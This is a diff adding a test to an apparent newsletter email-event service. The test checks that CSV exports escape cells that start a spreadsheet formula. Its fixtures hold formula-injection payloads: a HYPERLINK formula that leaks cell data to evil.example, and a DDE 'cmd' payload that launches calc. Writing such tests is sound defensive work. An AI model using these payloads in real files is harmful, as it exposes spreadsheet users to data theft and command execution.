@@ -7,6 +7,7 @@ import { createList } from '../../shared/lists/lists.js';
 import { jobList } from '../../shared/jobs.js';
 import { applySubscribers, getSubscriber } from '../../shared/subscribers/service.js';
 import { sesFixture, snsEvent, sqsEvent } from '../fixtures/ses/fixtures.js';
+import { parseCsv } from '../helpers/csv.js';
 import { newClient, request, useService, type TestClient } from '../helpers/service.js';
 
 const service = useService();
@@ -130,5 +131,30 @@ describe('SES delivery-event ingester', () => {
     const count = await request(`${service.url}/v1/newsletters/lists/${client.defaultListId}/subscribers/count`, { token: client.token });
     expect(count.body).toEqual({ subscribed: 1, unsubscribed: 1, cause: { HARD_BOUNCE: 0, PUBLISHER: 0, READER: 1 } });
     expect(await lines(client, 'nl_complaint')).toEqual([expect.stringMatching(/,angry@x\.io,cmp-42,nl-7,\d+,abuse$/)]);
+  });
+
+  it('event files cannot attack their readers: bounce messages, click targets and addresses that start a formula are escaped; raw=true gives the recorded values', async () => {
+    const client = await newClient(service, { premiumEvents: true });
+    const leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")';
+    const bounce = notification('bounce-transient', client, 'soft@x.io');
+    bounce.bounce.bouncedRecipients[0].diagnosticCode = leak;
+    const click = notification('click', client, 'reader@x.io');
+    click.click.link = "=cmd|' /C calc'!A0";
+    const send = notification('send', client, '+1+cmd@x.io');
+    await ingest(sqsEvent([bounce, click, send]));
+    const row = async (event: string, raw = false) => {
+      const reply = await request(`${service.url}/v1/newsletters/events/${event}/${today()}${raw ? '?raw=true' : ''}`, { token: client.token });
+      expect(reply.status).toBe(200);
+      return (await parseCsv(reply.text))[1];
+    };
+    expect((await row('nl_bounce')).at(-1)).toBe(`'${leak}`);
+    expect((await row('nl_click'))[6]).toBe("'=cmd|' /C calc'!A0");
+    expect((await row('nl_send'))[1]).toBe("'+1+cmd@x.io");
+    // No cell of any of these files starts a formula.
+    for (const event of ['nl_bounce', 'nl_click', 'nl_send']) for (const cell of await row(event)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Asked for explicitly, the recorded values.
+    expect((await row('nl_bounce', true)).at(-1)).toBe(leak);
+    expect((await row('nl_click', true))[6]).toBe("=cmd|' /C calc'!A0");
+    expect((await row('nl_send', true))[1]).toBe('+1+cmd@x.io');
   });
 });
